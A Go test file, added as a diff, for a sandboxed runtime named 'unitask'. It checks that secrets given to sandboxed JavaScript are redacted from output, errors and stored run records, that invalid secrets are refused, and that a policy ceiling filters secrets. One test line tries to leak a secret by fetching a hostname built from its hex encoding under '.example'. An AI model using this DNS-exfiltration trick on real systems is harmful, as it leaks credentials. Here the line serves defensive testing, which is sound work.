@@ -1,0 +1,117 @@
+package unitask_test
+
+import (
+	"encoding/base64"
+	"encoding/hex"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/unitask/unitask"
+	"github.com/unitask/unitask/policy"
+	"github.com/unitask/unitask/record"
+)
+
+// The code has its secrets; the record, the result and the errors have none of them.
+func TestSecrets(t *testing.T) {
+	needVM(t)
+	const secret = `t0ken/with+"odd" chars=`
+	for _, kernel := range kernels(t) {
+		t.Run(string(kernel), func(t *testing.T) {
+			home := newHome(t)
+			rt, err := unitask.Open(unitask.Options{Home: home})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer rt.Close()
+			res, err := rt.Run(t.Context(), unitask.Request{Kernel: kernel, Secrets: map[string]string{"API_TOKEN": secret, "OTHER": "other-secret"}, Code: `
+const s = process.env.API_TOKEN, b = Buffer.from(s);
+console.log("length", s.length, process.env.OTHER.length, Object.keys(process.env).sort().join());
+for (const c of s) process.stdout.write(c);
+console.log("|", s, b, b.toString("base64"), b.toString("hex"), encodeURIComponent(s), JSON.stringify({ s }), [...s].reverse().join(""));
+console.error(Buffer.from("x" + s).toString("base64url"), new Error(s).message, process.env.OTHER);
+fetch("http://" + b.toString("hex").slice(0, 46) + ".example/").catch((e) => { console.log(e.cause.code, e.cause.hostname); throw new Error("with " + s); });`}, unitask.IO{})
+			if err != nil || res.ExitCode != 1 {
+				t.Fatalf("%v %+v", err, res)
+			}
+			out, errs := string(res.Stdout), string(res.Stderr)
+			if !strings.Contains(out, "length 23 12 API_TOKEN,HOME,OTHER,PATH\n"+record.Redacted+"| "+record.Redacted) || !strings.Contains(errs, "Error: with "+record.Redacted) || !strings.Contains(out, "ENOTFOUND "+record.Redacted) {
+				t.Errorf("%s%s", out, errs)
+			}
+			text, _ := res.MarshalJSON()
+			noSecret(t, "the result", string(text)+out+errs, secret, "other-secret")
+			err = filepath.WalkDir(filepath.Join(home, "runs"), func(name string, d fs.DirEntry, err error) error {
+				if err != nil || d.IsDir() {
+					return err
+				}
+				content, err := os.ReadFile(name)
+				noSecret(t, name, string(content), secret, "other-secret")
+				return err
+			})
+			if err != nil {
+				t.Error(err)
+			}
+			rec, err := rt.Runs().Get(res.RunID)
+			if err != nil || !strings.Contains(strings.Join(strings.Fields(string(rec.Request)), ""), `"secrets":["API_TOKEN","OTHER"]`) {
+				t.Errorf("%v %s", err, rec.Request)
+			}
+		})
+	}
+}
+
+func noSecret(t *testing.T, where, text string, secrets ...string) {
+	t.Helper()
+	for _, s := range secrets {
+		for _, form := range append(record.Forms(s), hex.EncodeToString([]byte(s)), base64.StdEncoding.EncodeToString([]byte(s))) {
+			if strings.Contains(text, form) {
+				t.Errorf("%s holds %q", where, form)
+			}
+		}
+	}
+}
+
+func TestSecretsRefused(t *testing.T) {
+	rt, err := unitask.Open(unitask.Options{Home: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rt.Close()
+	for says, c := range map[string]struct {
+		secrets map[string]string
+		env     map[string]string
+		io      unitask.IO
+	}{
+		"has 5 bytes":             {secrets: map[string]string{"A": "12345"}},
+		"has 0 bytes":             {secrets: map[string]string{"A": ""}},
+		"NUL":                     {secrets: map[string]string{"A": "123\x00456"}},
+		"no name":                 {secrets: map[string]string{"A-B": "123456"}},
+		"is in env too":           {secrets: map[string]string{"A": "123456"}, env: map[string]string{"A": "x"}},
+		"the capture would hold":  {secrets: map[string]string{"A": "123456"}, io: unitask.IO{Capture: new(strings.Builder)}},
+		"too long to be looked":   {secrets: map[string]string{"A": strings.Repeat("x1", 20_000)}},
+		"must have 1 to 256 byte": {secrets: map[string]string{"": "123456"}},
+	} {
+		_, err := rt.Run(t.Context(), unitask.Request{Code: "1", Secrets: c.secrets, Env: c.env}, c.io)
+		if err == nil || !strings.Contains(err.Error(), says) {
+			t.Errorf("%v, want %q", err, says)
+		}
+	}
+	if ids, _ := rt.Runs().IDs(); len(ids) > 0 {
+		t.Errorf("there are records: %v", ids)
+	}
+}
+
+// A ceiling names the secrets that may go in; the others do not.
+func TestSecretsUnderCeiling(t *testing.T) {
+	needVM(t)
+	ceiling, err := policy.ParseCeiling("test.toml", []byte(`secrets = ["GOOD"]`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	res, err := unitask.Run(t.Context(), unitask.Request{Secrets: map[string]string{"GOOD": "good-secret", "BAD": "bad-secret"}, Code: `console.log(Object.keys(process.env).sort().join())`},
+		unitask.Options{Home: newHome(t), Ceiling: ceiling})
+	if err != nil || string(res.Stdout) != "GOOD,HOME,PATH\n" || len(res.Policy.Denials) != 1 || res.Policy.Denials[0].Requested != "BAD" || res.Policy.Ceiling != "test.toml" {
+		t.Errorf("%v %s %+v", err, res.Stdout, res.Policy)
+	}
+}
